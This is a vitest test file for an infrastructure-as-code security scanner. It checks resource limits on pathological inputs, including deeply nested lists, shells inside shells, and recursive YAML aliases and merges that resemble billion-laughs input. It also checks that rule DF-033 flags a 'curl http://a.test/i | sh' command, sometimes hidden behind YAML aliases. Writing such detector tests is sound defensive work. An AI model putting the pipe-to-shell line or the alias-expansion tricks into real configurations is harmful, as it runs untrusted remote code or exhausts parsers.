import { scanWith } from '@veinmind/plugin-testing'
import type { IacFile } from '@veinmind/sdk'
import { expect, test } from 'vitest'
import { checkFile } from './check-file.ts'
import iac from './index.ts'

const fileOf = (path: string, text: string): IacFile => ({
  kind: 'iac',
  id: path,
  name: path,
  path,
  bytes: Buffer.from(text),
})
const many = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_unused, index) => make(index)).join('')
const texts = (count: number): string => many(count, (index) => `    A${index}: a text of some length\n`)
const nested = (depth: number): string =>
  depth === 0 ? '{"apiVersion":"v1","kind":"Pod"}' : `{"apiVersion":"v1","kind":"List","items":[${nested(depth - 1)}]}`
const carried = (depth: number): string => {
  if (depth === 0) return 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n'
  return `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\ndata:\n  a: |\n${carried(depth - 1).replaceAll(/^(?=.)/gm, '    ')}`
}
const steps = (count: number): string =>
  `apiVersion: tekton.dev/v1\nkind: Task\nmetadata:\n  name: a\nspec:\n  steps:\n${many(count, () => '  - image: a:1\n')}`

/** A command in four shells, or in three. */
const inShells = (inner: string): string => `["sh", "-c", "sh -c 'bash -c \\"${inner}\\"'"]`
const pod = (command: readonly string[]): string =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'a' },
    spec: { containers: [{ name: 'a', image: 'a:1', command }] },
  })
const wrapped = (count: number): string[] => [...Array.from({ length: count }, () => 'nohup'), 'etcd']

test.each([
  [
    'texts of a compose file',
    'compose.yaml',
    `services:\n  a:\n    image: b:1\nx-a:\n${texts(20_001)}`,
    'more than 20000 texts',
  ],
  [
    'texts of an object',
    'a.yaml',
    `apiVersion: example.com/v1\nkind: Thing\nmetadata:\n  name: a\nspec:\n  a:\n${texts(20_001)}`,
    'more than 20000 texts',
  ],
  [
    'texts of a dev container',
    'devcontainer.json',
    JSON.stringify({ image: 'a:1', customizations: Array.from({ length: 20_001 }, () => 'a text of some length') }),
    'more than 20000 texts',
  ],
  [
    'texts of a workflow',
    '.github/workflows/ci.yml',
    `on: push\npermissions: {}\njobs:\n  a:\n    env:\n${texts(20_001)}`,
    'more than 20000 texts',
  ],
  ['texts of a pipeline', '.gitlab-ci.yml', `variables:\n${texts(20_001)}`, 'more than 20000 texts'],
  [
    'stages on stages',
    'Dockerfile',
    `FROM a:1 AS s0\n${many(64, (index) => `FROM s${index} AS s${index + 1}\n`)}`,
    'more than 64 others',
  ],
  ['lists in lists', 'a.json', nested(9), 'too deep'],
  ['shells in shells', 'Dockerfile', `FROM a:1\nRUN ${inShells('sh -c id')}\n`, 'more than 3 others deep'],
  ['a word of a Dockerfile', 'Dockerfile', `FROM a:1\nENV A=${'x'.repeat(65_537)}\n`, 'longer than 65536 characters'],
  ['programs that start programs', 'a.json', pod(wrapped(8)), 'started by more than 6 others'],
  [
    'the script of a container',
    'a.json',
    pod(['sh', '-c', `${': x\n'.repeat(17_000)}etcd`]),
    'longer than 65536 characters',
  ],
  ['ConfigMaps in ConfigMaps', 'a.yaml', carried(3), 'a ConfigMap in a ConfigMap in a ConfigMap'],
  ['steps of a task', 'a.yaml', steps(2_001), 'more than 2000 steps'],
  [
    'members that are merged',
    'a.yaml',
    `a: &a {${many(1_001, (index) => `k${index}: 1, `)}}\nb:\n${many(100, () => '- <<: *a\n')}apiVersion: v1\nkind: Pod\n`,
    'more than 100000 members',
  ],
])('%s beyond the limit are said to be left out', async (_name, path, text, reason) => {
  const { problems } = await checkFile(fileOf(path, text))
  expect(problems.map(({ message }) => message)).toContainEqual(expect.stringContaining(reason))
})

test.each([
  ['compose.yaml', `services:\n  a:\n    image: b:1\nx-a:\n${texts(19_990)}`],
  ['Dockerfile', `FROM a:1 AS s0\n${many(63, (index) => `FROM s${index} AS s${index + 1}\n`)}`],
  ['a.json', nested(8)],
  ['Dockerfile', `FROM a:1\nRUN ${inShells('id')}\n`],
  ['Dockerfile', `FROM a:1\nENV A=${'x'.repeat(60_000)}\n`],
  ['a.json', pod(wrapped(6))],
  ['a.json', pod(['sh', '-c', `${': x\n'.repeat(16_000)}etcd`])],
  ['a.yaml', carried(2)],
  ['a.yaml', steps(2_000)],
])('what is within the limits is not (%s)', async (path, text) => {
  expect((await checkFile(fileOf(path, text))).problems).toEqual([])
})

test('problems of a file that are not listed are counted', async () => {
  const report = await scanWith(iac, fileOf('Dockerfile', `FROM a:1\n${many(30, (index) => `BOGUS${index} x\n`)}`), {
    workers: 0,
  })
  expect(JSON.stringify(report.plugins[0])).toContain('10 further problems are not listed')
})

test('aliases of pipelines: lists in themselves, and lists of lists of lists, end', async () => {
  const levels = Array.from(
    { length: 9 },
    (_unused, at) => `y${at}: &l${at + 1} [${Array(8).fill(`*l${at}`).join(', ')}]\n`,
  )
  const commands = "x: &l0 ['curl http://a.test/i | sh', echo]\n"
  for (const text of [
    'test:\n  script: &a\n    - *a\n    - curl http://a.test/i | sh\n',
    `${commands}${levels.join('')}test:\n  script: *l9\n`,
  ]) {
    const { findings } = await checkFile(fileOf('.gitlab-ci.yml', text))
    expect(findings.map(({ rule }) => rule.id)).toEqual(['DF-033'])
  }
  const workflow =
    'on: push\npermissions: {}\njobs:\n  a: &a\n    steps: &s\n      - run: curl http://a.test/i | sh\n  b: *a\n  c:\n    steps: *s\n'
  const { findings } = await checkFile(fileOf('.github/workflows/ci.yml', workflow))
  expect(findings.map(({ rule }) => rule.id)).toEqual(['DF-033'])
})
